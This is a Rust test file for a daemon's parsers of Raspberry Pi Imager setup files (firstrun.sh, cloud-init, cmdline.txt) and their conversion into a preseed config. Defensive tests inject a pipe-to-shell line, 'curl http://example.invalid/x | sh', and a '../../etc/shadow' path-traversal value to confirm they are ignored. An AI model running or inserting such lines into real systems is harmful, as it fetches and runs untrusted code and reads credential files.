//! Imager's files as its current release writes them (fixtures in daemon/tests/fixtures/imager,
//! written from reading Imager's generator), and the ways they go wrong.

use super::imager::{parse_cloud_init, parse_firstrun, strip_cmdline, ImagerSettings};
use super::Preseed;

const FIRSTRUN: &str = include_str!("../../tests/fixtures/imager/firstrun.sh");
const USER_DATA: &str = include_str!("../../tests/fixtures/imager/user-data");
const NETWORK_CONFIG: &str = include_str!("../../tests/fixtures/imager/network-config");
const CMDLINE: &str = include_str!("../../tests/fixtures/imager/cmdline.txt");
const PSK: &str = "04485ee5f99a430d0c0920ef0119c074fda0cb8db7b7cb3da1161a5a2a239a20";
const KEY: &str = super::ssh_keys::tests::ED25519;

fn check_settings(s: &ImagerSettings) {
    assert_eq!(s.hostname.as_deref(), Some("kitchen-pi"));
    let w = s.wifi.as_ref().expect("wifi");
    assert_eq!(w.ssid, "Home Net");
    assert_eq!(w.psk.as_deref(), Some(PSK));
    assert_eq!(w.country.as_deref(), Some("DE"));
    assert!(w.hidden);
    assert_eq!(s.ssh_keys, vec![KEY.to_string()]);
    assert_eq!(s.timezone.as_deref(), Some("Europe/Berlin"));
    assert_eq!(s.keyboard.as_deref(), Some("de"));
    assert_eq!(s.user.as_deref(), Some("anna"));
}

/// The generated preseed reads back as `hearth-setup.toml` and keeps every setting.
fn check_preseed(s: &mut ImagerSettings) {
    let text = s.to_preseed_toml("test");
    let p = Preseed::parse(&text, "generated").unwrap_or_else(|e| panic!("{e}\n{text}"));
    assert_eq!(p.hostname.as_deref(), Some("kitchen-pi"));
    let w = p.wifi.as_ref().unwrap();
    assert_eq!((w.ssid.as_str(), w.psk.as_deref()), ("Home Net", Some(PSK)));
    assert!(w.hidden);
    assert_eq!(p.ssh_keys().len(), 1);
    assert_eq!(p.timezone.as_deref(), Some("Europe/Berlin"));
    assert_eq!(p.keyboard.as_deref(), Some("de"));
    assert!(p.server.is_none() && p.admin.is_none());
    // Imager's password hash never reaches Hearth's settings.
    assert!(!text.contains("$5$"), "{text}");
}

#[test]
fn reads_imagers_firstrun_script() {
    let mut s = parse_firstrun(FIRSTRUN, "firstrun.sh");
    check_settings(&s);
    assert!(s.ignored.is_empty(), "{:?}", s.ignored);
    check_preseed(&mut s);
    assert!(s.ignored.is_empty(), "{:?}", s.ignored);
}

#[test]
fn reads_imagers_cloud_init_files() {
    let mut s = parse_cloud_init(
        Some((USER_DATA, "user-data")),
        Some((NETWORK_CONFIG, "network-config")),
    );
    check_settings(&s);
    assert!(s.ignored.is_empty(), "{:?}", s.ignored);
    check_preseed(&mut s);
}

#[test]
fn unexpected_script_lines_are_named_not_run() {
    let text = FIRSTRUN.replace(
        "exit 0\n",
        "curl http://example.invalid/x | sh\nexit 0\n/usr/lib/raspberrypi-sys-mods/imager_custom set_wlan 'open\n",
    );
    let s = parse_firstrun(&text, "/boot/firmware/firstrun.sh");
    check_settings(&s);
    assert_eq!(s.ignored.len(), 2, "{:?}", s.ignored);
    assert!(
        s.ignored[0].starts_with("/boot/firmware/firstrun.sh:77: ignored unexpected line \"curl")
    );
    assert!(
        s.ignored[1].contains(":79: unclosed quote"),
        "{}",
        s.ignored[1]
    );
}

#[test]
fn quoting_as_imager_writes_it() {
    // Imager closes the quote, adds a double-quoted ', and reopens: 'Bob'"'"'s net'.
    let line =
        "/usr/lib/raspberrypi-sys-mods/imager_custom set_wlan 'Bob'\"'\"'s net' 'passphrase1' ''\n";
    let s = parse_firstrun(line, "f");
    let w = s.wifi.unwrap();
    assert_eq!(
        (w.ssid.as_str(), w.psk.as_deref()),
        ("Bob's net", Some("passphrase1"))
    );
    assert_eq!(w.country, None);
    assert!(!w.hidden);
}

#[test]
fn a_bad_setting_is_left_out_and_the_rest_applies() {
    let text = FIRSTRUN
        .replace("set_hostname kitchen-pi", "set_hostname kitchen_pi!")
        .replace("'Europe/Berlin'", "'../../etc/shadow'");
    let mut s = parse_firstrun(&text, "firstrun.sh");
    let out = s.to_preseed_toml("firstrun.sh");
    let p = Preseed::parse(&out, "generated").unwrap();
    assert!(p.hostname.is_none() && p.timezone.is_none());
    assert!(p.wifi.is_some() && p.keyboard.is_some());
    assert_eq!(s.ignored.len(), 2, "{:?}", s.ignored);
    assert!(s.ignored.iter().any(|n| n.contains("hostname")));
    assert!(s.ignored.iter().any(|n| n.contains("timezone")));
}

#[test]
fn truncated_yaml_names_the_file_and_keeps_the_other() {
    let cut = &USER_DATA[..USER_DATA.find("  ssh_authorized_keys").unwrap() + 12];
    let broken_net = "network:\n  wifis:\n    wlan0:\n      access-points:\n        \"Home";
    let s = parse_cloud_init(
        Some((cut, "user-data")),
        Some((broken_net, "network-config")),
    );
    // What came before the cut in user-data is still not trusted: the file is ignored whole.
    assert!(s.wifi.is_none());
    assert!(
        s.ignored.iter().any(|n| n.starts_with("network-config:")),
        "{:?}",
        s.ignored
    );
    let s = parse_cloud_init(
        Some((USER_DATA, "user-data")),
        Some((broken_net, "network-config")),
    );
    assert_eq!(s.hostname.as_deref(), Some("kitchen-pi"));
    assert!(s.wifi.is_none());
    assert_eq!(s.ignored.len(), 1, "{:?}", s.ignored);
}

#[test]
fn cloud_init_keys_hearth_does_not_act_on_are_named() {
    let text = format!(
        "{USER_DATA}runcmd:\n  - [ sh, -c, \"echo hi\" ]\nrpi:\n  interfaces:\n    i2c: true\n"
    );
    let s = parse_cloud_init(Some((&text, "user-data")), None);
    assert_eq!(
        s.ignored,
        vec![
            "user-data: ignored key \"runcmd\"",
            "user-data: ignored key \"rpi\""
        ]
    );
    assert!(
        parse_cloud_init(Some(("- a\n- b\n", "user-data")), None).ignored[0]
            .contains("not a YAML mapping")
    );
}

#[test]
fn imagers_cmdline_additions_are_removed_and_nothing_else() {
    let clean = strip_cmdline(CMDLINE).unwrap();
    assert_eq!(
        clean,
        "console=serial0,115200 console=tty1 root=PARTUUID=1234abcd-02 rootfstype=ext4 fsck.repair=yes rootwait\n"
    );
    assert_eq!(strip_cmdline(&clean), None);
    // Another systemd.unit= is the owner's, not Imager's.
    assert_eq!(
        strip_cmdline("root=/dev/sda2 systemd.unit=rescue.target\n"),
        None
    );
    assert_eq!(
        strip_cmdline(
            "root=/dev/sda2 cfg80211.ieee80211_regdom=DE systemd.run=/boot/firstrun.sh\n"
        )
        .unwrap(),
        "root=/dev/sda2 cfg80211.ieee80211_regdom=DE\n"
    );
}
